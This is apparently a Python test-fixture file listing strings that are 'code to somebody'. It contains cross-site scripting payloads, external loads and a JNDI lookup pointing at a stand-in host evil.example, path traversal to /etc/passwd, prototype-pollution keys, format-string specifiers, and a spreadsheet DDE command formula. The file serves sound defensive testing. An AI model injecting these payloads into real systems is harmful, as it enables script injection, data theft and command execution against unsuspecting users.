"""Texts that are code to somebody: to a browser, a renderer, a shell, a table."""

RAN = "window.ran=1"
EVIL = "http://evil.example"
TEXTS = (
    f"<script>{RAN}</script>",
    f'<img src=x onerror="{RAN}">',
    f"</textarea><svg onload={RAN}>",
    f"</script><script>{RAN}</script>",
    f'"><iframe src="{EVIL}" onload="{RAN}"></iframe>',
    f"[press](javascript:{RAN}) <{EVIL}>",
    f"![picture]({EVIL}/x.png)",
    f"$\\href{{javascript:{RAN}}}{{x}}$ $$\\includegraphics{{{EVIL}/x.png}}$$",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"${{{RAN}}} {{{{{RAN}}}}} `{RAN}`",
    f"';{RAN};//",
    f'datum.value; {RAN} || "if" if then it',
    ":red[:material/home: **bold**] :streamlit: <b>b</b>",
    "\u202eabc\u202c \u200d \ufeff 👩\u200d👩\u200d👧 ไทย שלום",
    "__proto__ constructor toString eval(1)",
    "../../../etc/passwd %s%n%x ${jndi:ldap://evil.example/a}",
    '=cmd|" /C calc"!A0',
)  # fmt: skip
